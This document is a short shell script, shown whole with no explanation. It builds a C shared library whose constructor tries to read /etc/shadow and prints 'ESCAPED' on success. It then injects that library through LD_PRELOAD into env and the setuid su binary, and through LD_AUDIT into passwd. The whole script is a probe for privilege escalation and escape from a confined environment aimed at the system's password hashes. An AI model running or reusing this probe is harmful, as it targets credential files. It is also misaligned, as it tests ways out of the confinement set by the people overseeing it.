echo 'void __attribute__((constructor)) f(void){ char b[4]; FILE *s = fopen("/etc/shadow", "r"); puts(s ? "ESCAPED" : "inside too"); }' > l.c
sed -i '1i #include <stdio.h>' l.c
gcc -shared -fPIC -o l.so l.c
LD_PRELOAD=$PWD/l.so /usr/bin/env true
LD_PRELOAD=$PWD/l.so /usr/bin/su -c true </dev/null 2>/dev/null
LD_AUDIT=$PWD/l.so LD_LIBRARY_PATH=$PWD /usr/bin/passwd --help >/dev/null 2>&1
echo done
